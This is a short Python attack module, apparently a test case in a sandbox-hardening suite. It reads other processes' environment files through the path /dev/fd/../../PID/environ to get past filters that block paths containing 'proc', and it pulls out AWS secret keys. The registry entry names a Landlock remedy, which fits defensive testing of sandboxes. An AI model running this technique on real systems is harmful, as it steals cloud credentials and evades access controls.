# SPDX-License-Identifier: MIT
"""Goal:  the worker's credentials, past any filter that looks for "proc" in a path.
Means: /dev/fd is a link to /proc/self/fd, so /dev/fd/../.. is /proc, and the word never occurs.
"""

import os

from attack import DONE, attempting, denied, loot


def neighbours(first):
    """The worker, then every process in /proc but this one."""
    try:
        seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        seen = []
    return [pid for pid in [first, *seen] if pid not in (0, os.getpid())]


def credential(path):
    """The credential in an environ file, or None."""
    with open(path, "rb") as file:
        for entry in file.read().split(b"\0"):
            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
                return entry
    return None


def run(brief):
    why = "nobody else in sight"
    attempting()
    for pid in neighbours(brief.worker):
        try:
            found = credential(f"/dev/fd/../../{pid}/environ")
        except OSError as error:
            why = error
            continue
        if found:
            loot(found)
            return DONE
    return denied("/dev/fd/../../PID/environ", why)


ATTACK = {
    "effect": "the worker's environment is read through /proc",
    "means": "/dev/fd/../../PID/environ, which does not contain the word proc",
    "oracle": "secret:environ",
    "quick": True,
    "id": "PROC-06",
    "attack_id": "T1057, T1003.007, CWE-22",
    "remedy": "Landlock without /proc, which judges the file and not its name",
    "refs": ["proc(5)"],
    "run": run,
}
